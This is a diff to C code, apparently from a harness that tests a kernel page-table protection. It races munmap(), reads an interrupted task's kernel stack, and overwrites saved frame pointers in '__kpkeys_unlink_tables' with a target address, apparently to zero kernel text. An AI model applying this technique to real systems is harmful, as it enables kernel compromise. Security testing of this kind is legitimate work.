@@ -20,12 +20,13 @@
 
 #ifdef __x86_64__
 #define FUNCTION	"__kpkeys_unlink_tables"
-#define AHEAD		0x50			/* bytes of it ahead of its section */
-#define TABLES		32			/* that it looks at in one section */
-#define STORED		(TABLES * 8)
+#define LENGTH		0x50			/* bytes of it, at least up to its section */
+#define STORED		(32 * 8)		/* at most, of one section */
+#define TABLES		510			/* that it is called for, in one munmap() */
 #define CHANGED_PART	0x59
 #define UNMAPPER_CPU	1
-#define STACK_WORDS	2048
+#define STACK_SIZE	16384
+#define DEPTH		4096			/* of it that is looked at */
 #define INTERVAL	1000			/* microseconds */
 #define HOLD		3000			/* likewise */
 #define SECONDS		15
@@ -41,7 +42,7 @@ static void unmap_for_ever(void)
 
 	stay_on_cpu(UNMAPPER_CPU);
 	heed_alarms();
-	behind = mmap(base + 2 * size, PAGE_SIZE, PROT_READ | PROT_WRITE,
+	behind = mmap(base + size, PAGE_SIZE, PROT_READ | PROT_WRITE,
 		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
 	*behind = 1;
 	alarm_every(INTERVAL);
@@ -59,21 +60,31 @@ static uint64_t target_of(uint64_t frame)
 	return at > page + PAGE_SIZE - STORED ? page + PAGE_SIZE - STORED : at;
 }
 
+/* What an interrupt of the function saved: pointers into the stack, but to the frame. */
+static int change_frame(const struct task *task, uint64_t at, const uint64_t *frame, uint64_t target)
+{
+	int i, n = 0;
+
+	for (i = 0; i < FRAME_GENERAL; i++) {
+		if (i == FRAME_BP || frame[i] - task->stack >= STACK_SIZE)
+			continue;
+		kwrite64(at + i * 8, target);
+		n++;
+	}
+	return n;
+}
+
 static int change_stack(const struct task *task, uint64_t function, uint64_t target)
 {
-	static uint64_t words[STACK_WORDS];
+	static uint64_t words[DEPTH / 8];
+	uint64_t *frame, from = task->stack + STACK_SIZE - DEPTH;
 	int i, n = 0;
-	uint64_t *frame;
 
-	for (i = 0; i < STACK_WORDS * 8; i += PAGE_SIZE)
-		kread(task->stack + i, (char *)words + i, PAGE_SIZE);
-	for (i = 0; i + FRAME_WORDS <= STACK_WORDS; i++) {
+	kread(from, words, DEPTH);
+	for (i = 0; i + FRAME_WORDS <= DEPTH / 8; i++) {
 		frame = words + i;
-		if (frame[FRAME_IP] - function >= AHEAD || !is_kernel_frame(frame) ||
-		    frame[FRAME_SI] - task->stack >= STACK_WORDS * 8)
-			continue;
-		kwrite64(task->stack + (i + FRAME_SI) * 8, target);
-		n++;
+		if (frame[FRAME_IP] - function < LENGTH && is_kernel_frame(frame))
+			n += change_frame(task, from + i * 8, frame, target);
 	}
 	return n;
 }
@@ -116,7 +127,7 @@ enum outcome unlinked_entries(void)
 	}
 	kill(pid, SIGKILL);
 	if (!changed)
-		return broken("no interrupt ahead of the section (%lu rounds, held %d times)", *rounds, held);
+		return broken("no interrupt of the function (%lu rounds, held %d times)", *rounds, held);
 	if (kind)
 		return lost("%lu rounds, held %d times, %d pointers changed", *rounds, held, changed);
 	return zero_page_text();
